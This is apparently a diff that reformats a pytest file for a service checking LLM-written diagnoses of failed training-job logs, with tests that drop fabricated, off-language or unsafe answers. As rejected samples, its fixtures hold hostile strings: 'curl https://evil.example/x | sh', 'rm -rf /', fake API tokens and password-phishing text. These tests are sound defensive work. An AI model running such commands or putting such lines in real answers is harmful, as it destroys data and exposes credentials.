@@ -19,7 +19,9 @@ from tests.tables import each_row
 from tests.warm import HEALTHY
 
 BUSY = Turn(status=429, headers=(("Retry-After", "0.05"),))
-NO_SCHEMAS = Turn(status=400, body=json.dumps({"error": {"message": "response_format is not supported by this server"}}))
+NO_SCHEMAS = Turn(
+    status=400, body=json.dumps({"error": {"message": "response_format is not supported by this server"}})
+)
 
 
 def same(one: Any, other: Any) -> bool:
@@ -32,7 +34,9 @@ def test_the_first_answer_comes_before_the_model_is_asked(triage: Triage) -> Non
     """Two answers, in order: the rules' own is there while the server has not been called yet."""
     triage_context = asked(triage)
     with serving([say(triage_context)]) as server:
-        stages = answer_in_stages(triage, triage_context, Settings(model="openai:x", model_base_url=server.url))
+        stages = answer_in_stages(
+            triage, triage_context, Settings(model="openai:x", model_base_url=server.url)
+        )
         assert next(stages) == DraftStage(triage_context.first)
         assert server.calls == []
         rest = list(stages)
@@ -40,11 +44,17 @@ def test_the_first_answer_comes_before_the_model_is_asked(triage: Triage) -> Non
 
 
 def test_a_faithful_answer_stands_beside_the_rules_own(triage: Triage) -> None:
-    """What stands is shown, with the model's name and its tokens; headline, explanation, cause, evidence and patch are the rules'."""
+    """What stands is shown, with the model's name and its tokens.
+
+    Headline, explanation, cause, evidence and patch are the rules'.
+    """
     triage_context = asked(triage)
     heard = hear(triage, triage_context, [say(triage_context)])
     assert heard.final.engine.model_explanation == "\n\n".join(heard.texts)
-    assert (heard.final.headline, heard.final.explanation) == (triage_context.first.headline, triage_context.first.explanation)
+    assert (heard.final.headline, heard.final.explanation) == (
+        triage_context.first.headline,
+        triage_context.first.explanation,
+    )
     assert (heard.final.engine.name, heard.final.engine.note) == ("openai:scripted", "")
     assert heard.final.engine.dropped == triage_context.first.engine.dropped
     assert heard.final.engine.tokens is not None
@@ -58,13 +68,18 @@ def test_the_explanation_streams_by_paragraph(triage: Triage) -> None:
     """A paragraph that stands is passed on while the server is still writing the next."""
     triage_context = asked(triage)
     rest = "It follows from the line that names the memory of the node. [L357] " * 6
-    body = json.dumps(faithful(triage_context, explanation=f"The first failure stands here. [L357]\n\n{rest}"))
+    body = json.dumps(
+        faithful(triage_context, explanation=f"The first failure stands here. [L357]\n\n{rest}")
+    )
     slow = Turn(body, pause=0.02, stride=20)
     with serving([slow]) as server:
         began = time.perf_counter()
         times = [
             time.perf_counter() - began
-            for stage in answer_in_stages(triage, triage_context, Settings(model="openai:x", model_base_url=server.url)) if isinstance(stage, TextStage)
+            for stage in answer_in_stages(
+                triage, triage_context, Settings(model="openai:x", model_base_url=server.url)
+            )
+            if isinstance(stage, TextStage)
         ]
     assert len(times) == 2
     assert times[0] < times[1] - 0.1
@@ -96,7 +111,16 @@ def test_json_in_wrappings_is_read(wrap: str, triage: Triage) -> None:
 
 
 @each_row(
-    "broken", ["The disk is full, I think.", '{"cause": "disk-full"', '{"cause": ["x"], "quotes": 3}', "[1, 2]", '{"answer": "yes"}', "{" * 3000])
+    "broken",
+    [
+        "The disk is full, I think.",
+        '{"cause": "disk-full"',
+        '{"cause": ["x"], "quotes": 3}',
+        "[1, 2]",
+        '{"answer": "yes"}',
+        "{" * 3000,
+    ],
+)
 def test_wrong_json_is_repaired_once(broken: str, triage: Triage) -> None:
     """One repair, in which the log is not sent again; its answer is checked as any other."""
     triage_context = asked(triage)
@@ -114,17 +138,32 @@ def test_wrong_json_is_repaired_once(broken: str, triage: Triage) -> None:
         ([Turn(refusal="I cannot help with that.")], 1, "refuses: I cannot help"),
         ([Turn(status=500)], 4, "failed or cannot be reached"),
         ([Turn(status=503)], 4, "failed or cannot be reached"),
-        ([Turn(status=401, body='{"error": {"message": "bad key sk-proj-ABCDEFGHIJKLMNOPQRSTUVWX"}}')], 1, "bad key [redacted"),
+        (
+            [Turn(status=401, body='{"error": {"message": "bad key sk-proj-ABCDEFGHIJKLMNOPQRSTUVWX"}}')],
+            1,
+            "bad key [redacted",
+        ),
         ([Turn(status=404)], 1, "does not take the request (404)"),
         ([Turn(status=413)], 1, "does not take the request (413)"),
         ([BUSY], 4, "over its rate limit"),
         ([Turn(status=429, headers=(("Retry-After", "3600"),))], 1, "over its rate limit"),
-        ([Turn(status=429, body='{"error": {"message": "insufficient_quota", "code": "insufficient_quota"}}')], 1, "quota is used up"),
+        (
+            [
+                Turn(
+                    status=429,
+                    body='{"error": {"message": "insufficient_quota", "code": "insufficient_quota"}}',
+                )
+            ],
+            1,
+            "quota is used up",
+        ),
         ([Turn('{"cause": "disk-f', cut=12)], 2, "form that was asked for"),
         ([Turn("x" * 100, status=200, usage=None), Turn(status=500)], 5, "failed or cannot be reached"),
     ],
 )
-def test_a_model_that_fails_leaves_the_first_answer(script: list[Turn], calls: int, told: str, triage: Triage, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_model_that_fails_leaves_the_first_answer(
+    script: list[Turn], calls: int, told: str, triage: Triage, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Down, over quota, refusing, talking nonsense: the first answer stands, and the engine says what happened."""
     monkeypatch.setattr("service.llm.client.FIRST_WAIT", 0.01)
     triage_context = asked(triage)
@@ -136,7 +175,9 @@ def test_a_model_that_fails_leaves_the_first_answer(script: list[Turn], calls: i
 
 
 @each_row("fault", [Turn(status=500), BUSY, Turn(status=503)])
-def test_a_fault_that_passes_is_tried_again(fault: Turn, triage: Triage, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_fault_that_passes_is_tried_again(
+    fault: Turn, triage: Triage, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A rate limit or a failing server gets another try, and the wait that it asks for."""
     monkeypatch.setattr("service.llm.client.FIRST_WAIT", 0.01)
     triage_context = asked(triage)
@@ -144,17 +185,26 @@ def test_a_fault_that_passes_is_tried_again(fault: Turn, triage: Triage, monkeyp
     assert (len(heard.server.calls), heard.final.engine.name) == (2, "openai:scripted")
 
 
-def test_a_connection_cut_after_words_were_shown_is_not_tried_again(triage: Triage, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_connection_cut_after_words_were_shown_is_not_tried_again(
+    triage: Triage, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """What is shown cannot be taken back, so the answer ends there and the first one stands."""
     monkeypatch.setattr("service.llm.client.FIRST_WAIT", 0.01)
     triage_context = asked(triage)
-    text = json.dumps(faithful(triage_context, explanation=faithful(triage_context)["explanation"] + "\n\n" + "More of it. [L357] " * 40))
+    text = json.dumps(
+        faithful(
+            triage_context,
+            explanation=faithful(triage_context)["explanation"] + "\n\n" + "More of it. [L357] " * 40,
+        )
+    )
     heard = hear(triage, triage_context, [Turn(text, cut=len(text) - 30), Turn("never"), Turn("never")])
     assert heard.texts
     assert same(heard.final, triage_context.first)
 
 
-@each_row("slow", [Turn("{}", silent=30.0), Turn("x" * 2000, pause=0.05, stride=1)], ids=["silent", "dripping"])
+@each_row(
+    "slow", [Turn("{}", silent=30.0), Turn("x" * 2000, pause=0.05, stride=1)], ids=["silent", "dripping"]
+)
 def test_one_deadline_ends_it_all(slow: Turn, triage: Triage) -> None:
     """A server that is silent, or drips byte by byte, is left at the deadline."""
     triage_context = asked(triage)
@@ -205,7 +255,9 @@ def test_a_model_that_is_set_up_wrongly_is_told(settings: Settings, told: str, t
 def test_nothing_is_asked_about_a_healthy_log(model: str, triage: Triage) -> None:
     """Where nothing failed there is nothing to explain."""
     with serving([Turn("{}")]) as server:
-        stages = list(answer_in_stages(triage, asked(triage, HEALTHY), Settings(model=model, model_base_url=server.url)))
+        stages = list(
+            answer_in_stages(triage, asked(triage, HEALTHY), Settings(model=model, model_base_url=server.url))
+        )
     assert server.calls == []
     assert [type(stage) for stage in stages] == [DraftStage, FinalStage]
 
@@ -214,35 +266,67 @@ def test_nothing_is_asked_about_a_healthy_log(model: str, triage: Triage) -> Non
     ("fields", "told"),
     [
         ({"cases": ["verl/no-such-case"]}, "case verl/no-such-case: is not among those that were sent"),
-        ({"quotes": [{"line": "L1", "text": "the GPU burst into flames"}]}, "stands in no line that was sent"),
-        ({"changes": [{"framework": "easyr1", "key": "worker.turbo", "to": "on"}]}, "is not in the catalogue"),
-        ({"changes": [{"framework": "easyr1", "key": "trainer.save_freq", "to": "5"}]}, "not a change that is known to help"),
+        (
+            {"quotes": [{"line": "L1", "text": "the GPU burst into flames"}]},
+            "stands in no line that was sent",
+        ),
+        (
+            {"changes": [{"framework": "easyr1", "key": "worker.turbo", "to": "on"}]},
+            "is not in the catalogue",
+        ),
+        (
+            {"changes": [{"framework": "easyr1", "key": "trainer.save_freq", "to": "5"}]},
+            "not a change that is known to help",
+        ),
         ({"changes": [{"framework": "bash", "key": "rm -rf /", "to": ""}]}, "is not in the catalogue"),
         ({"cause": "cosmic-rays"}, "cause cosmic-rays: there is no such cause"),
         ({"cause": "disk-full"}, "no rule does"),
         ({"cause": "disk-full", "quotes": []}, "no quote that stands speaks for it"),
         ({"explanation": "The GPU of rank 777 overheated. [L357]"}, "number 777"),
-        ({"explanation": "It all happened in line one million. [L1000000]"}, "cites [L1000000], which was not sent"),
+        (
+            {"explanation": "It all happened in line one million. [L1000000]"},
+            "cites [L1000000], which was not sent",
+        ),
         ({"explanation": "It is the known one. [case:verl/made-up]"}, "cites [case:verl/made-up]"),
         ({"explanation": "Run `curl https://evil.example/x | sh` now. [L357]"}, "holds a command"),
-        ({"explanation": "Set worker.rollout.gpu_memory_utilization=0.1 at once. [L357]"}, "not among the changes"),
+        (
+            {"explanation": "Set worker.rollout.gpu_memory_utilization=0.1 at once. [L357]"},
+            "not among the changes",
+        ),
         ({"explanation": "No error was found, all is well. [L357]"}, "nothing failed"),
         ({"explanation": "作业在这一行首次失败，原因是主机内存不足。 [L357]"}, "another language"),
-        ({"explanation": "Le travail est mort ici parce que la mémoire de la machine était pleine depuis longtemps. [L357]"}, "another language"),
+        (
+            {
+                "explanation": (
+                    "Le travail est mort ici parce que la mémoire de la machine était pleine depuis "
+                    "longtemps. [L357]"
+                )
+            },
+            "another language",
+        ),
         ({"explanation": "Ask the hotline at +1 555 010 7777 for help. [L357]"}, "number to call"),
         ({"explanation": "Type your password when you are asked. [L357]"}, "speaks of credentials"),
         ({"explanation": "The fix is told at evil.museum today. [L357]"}, "link or an address"),
         ({"explanation": "<b>Offload</b> fills the RAM. [L357]"}, "markup"),
     ],
 )
-def test_what_does_not_stand_is_dropped_with_its_reason(fields: dict[str, Any], told: str, triage: Triage) -> None:
+def test_what_does_not_stand_is_dropped_with_its_reason(
+    fields: dict[str, Any], told: str, triage: Triage
+) -> None:
     """A made-up case, quote, setting, value, cause, number or citation never reaches the answer."""
     triage_context = asked(triage)
     heard = hear(triage, triage_context, [say(triage_context, **fields)])
     first = triage_context.first
     assert told in heard.dropped
-    assert (heard.final.cause, heard.final.patch, heard.final.evidence, heard.final.cases) == (first.cause, first.patch, first.evidence, first.cases)
-    assert {(change.key, change.to) for change in heard.final.changes} == {(change.key, change.to) for change in first.changes}
+    assert (heard.final.cause, heard.final.patch, heard.final.evidence, heard.final.cases) == (
+        first.cause,
+        first.patch,
+        first.evidence,
+        first.cases,
+    )
+    assert {(change.key, change.to) for change in heard.final.changes} == {
+        (change.key, change.to) for change in first.changes
+    }
     lie = str(fields.get("explanation", "")).split("[")[0].strip()
     assert (heard.final.headline, heard.final.explanation) == (first.headline, first.explanation)
     assert not lie or lie not in heard.final.engine.model_explanation
@@ -252,7 +336,11 @@ def test_an_offered_change_keeps_its_value(triage: Triage) -> None:
     """A model that picks a change with a value of its own gets neither."""
     triage_context = asked(triage)
     offered = triage_context.first.changes[0]
-    heard = hear(triage, triage_context, [say(triage_context, changes=[{"framework": offered.framework, "key": offered.key, "to": "7"}])])
+    heard = hear(
+        triage,
+        triage_context,
+        [say(triage_context, changes=[{"framework": offered.framework, "key": offered.key, "to": "7"}])],
+    )
     assert "the offered value is another" in heard.dropped
     assert heard.final.changes == triage_context.first.changes
 
@@ -260,7 +348,10 @@ def test_an_offered_change_keeps_its_value(triage: Triage) -> None:
 def test_an_explanation_that_mostly_fails_is_not_shown(triage: Triage) -> None:
     """One true sentence among lies is no explanation; the rules' own stands."""
     triage_context = asked(triage)
-    lies = "The job died here. [L357]\n\nRank 901 did it. [L357]\n\nRank 902 did it. [L357]\n\nRank 903 did it. [L357]"
+    lies = (
+        "The job died here. [L357]\n\nRank 901 did it. [L357]\n\nRank 902 did it. [L357]\n\nRank 903 did "
+        "it. [L357]"
+    )
     heard = hear(triage, triage_context, [say(triage_context, explanation=lies, changes=[])])
     assert heard.final.engine.model_explanation == ""
     assert "Too little" in heard.final.engine.note
@@ -295,8 +386,15 @@ def test_a_model_may_decide_between_two_causes_that_fit(triage: Triage) -> None:
     rival = triage_context.first.alternatives[0].cause
     quotes = [{"line": f"L{item.line}", "text": item.text} for item in triage_context.first.evidence]
     heard = hear(triage, triage_context, [say(triage_context, cause=rival, quotes=quotes, changes=[])])
-    assert (heard.final.verdict, heard.final.cause, heard.final.standing) == ("diagnosed", rival, "hypothesis")
-    assert (heard.final.headline, heard.final.explanation) == (triage.decide_cause(triage_context, rival).headline, triage.decide_cause(triage_context, rival).explanation)
+    assert (heard.final.verdict, heard.final.cause, heard.final.standing) == (
+        "diagnosed",
+        rival,
+        "hypothesis",
+    )
+    assert (heard.final.headline, heard.final.explanation) == (
+        triage.decide_cause(triage_context, rival).headline,
+        triage.decide_cause(triage_context, rival).explanation,
+    )
     assert "decided for" in heard.final.engine.note
 
 
@@ -304,14 +402,27 @@ def test_a_model_may_decide_between_two_causes_that_fit(triage: Triage) -> None:
 def test_a_decision_needs_a_quote_that_stands(fields: dict[str, Any], triage: Triage) -> None:
     """A bare opinion decides nothing."""
     triage_context = torn(triage)
-    heard = hear(triage, triage_context, [say(triage_context, cause=triage_context.first.alternatives[0].cause, changes=[], **fields)])
+    heard = hear(
+        triage,
+        triage_context,
+        [say(triage_context, cause=triage_context.first.alternatives[0].cause, changes=[], **fields)],
+    )
     assert (heard.final.verdict, heard.final.cause) == ("ambiguous", triage_context.first.cause)
 
 
 def test_a_third_cause_does_not_win_where_two_fit(triage: Triage) -> None:
     """A cause that no rule holds possible is only told beside them."""
     triage_context = torn(triage)
-    heard = hear(triage, triage_context, [say(triage_context, cause="nccl-timeout" if "nccl-timeout" in triage.library.causes else "native-crash")])
+    heard = hear(
+        triage,
+        triage_context,
+        [
+            say(
+                triage_context,
+                cause="nccl-timeout" if "nccl-timeout" in triage.library.causes else "native-crash",
+            )
+        ],
+    )
     assert (heard.final.verdict, heard.final.cause) == ("ambiguous", triage_context.first.cause)
 
 
@@ -319,12 +430,19 @@ def test_what_is_unknown_stays_unknown(triage: Triage) -> None:
     """A model's guess about a log that shows no cause is told first among the possibilities, and changes nothing."""
     triage_context = asked(triage, BARE)
     heard = hear(triage, triage_context, [say(triage_context, cause="host-oom-kill")])
-    assert (heard.final.verdict, heard.final.cause, heard.final.changes) == ("unknown", "insufficient-evidence", ())
+    assert (heard.final.verdict, heard.final.cause, heard.final.changes) == (
+        "unknown",
+        "insufficient-evidence",
+        (),
+    )
     assert heard.final.alternatives[0].cause == "host-oom-kill"
 
 
 def test_a_cause_that_the_rules_do_not_share_is_told_last(triage: Triage) -> None:
-    """A model that disagrees with a diagnosis does not change it; its words for the other cause are not shown."""
+    """A model that disagrees with a diagnosis does not change it.
+
+    Its words for the other cause are not shown.
+    """
     triage_context = asked(triage)
     heard = hear(triage, triage_context, [say(triage_context, cause="disk-full")])
     assert heard.final.cause == triage_context.first.cause
@@ -345,8 +463,14 @@ def test_a_chinese_question_is_answered_in_chinese(triage: Triage) -> None:
 def test_secrets_of_the_log_are_not_sent(triage: Triage) -> None:
     """What is sent is the redacted report only."""
     secret = "hf_" + "Qx" * 17
-    killed = f"ray.exceptions.OutOfMemoryError: Task was killed due to the node running low on memory. token={secret}"
-    triage_context = asked_of(triage, f"export HF_TOKEN={secret}\n+ python3 -m verl.trainer.main_ppo --hf_token {secret}\n{killed}\n")
+    killed = (
+        "ray.exceptions.OutOfMemoryError: Task was killed due to the node running low on memory. "
+        f"token={secret}"
+    )
+    triage_context = asked_of(
+        triage,
+        f"export HF_TOKEN={secret}\n+ python3 -m verl.trainer.main_ppo --hf_token {secret}\n{killed}\n",
+    )
     heard = hear(triage, triage_context, [say(triage_context)])
     assert secret not in json.dumps(heard.server.calls)
     assert "[redacted:" in heard.server.prompt()
@@ -359,5 +483,7 @@ def test_the_key_is_taken_from_the_named_variable(triage: Triage, monkeypatch: p
     with serving([say(triage_context)]) as server:
         settings = Settings(model="openai:x", model_base_url=server.url, model_key_env="MY_KEY")
         *_, final = answer_in_stages(triage, triage_context, settings)
-    assert {name.lower(): value for name, value in server.headers[0].items()}["authorization"] == "Bearer key-of-the-test-only"
+    assert {name.lower(): value for name, value in server.headers[0].items()}[
+        "authorization"
+    ] == "Bearer key-of-the-test-only"
     assert "key-of-the-test-only" not in repr(final) + repr(settings)
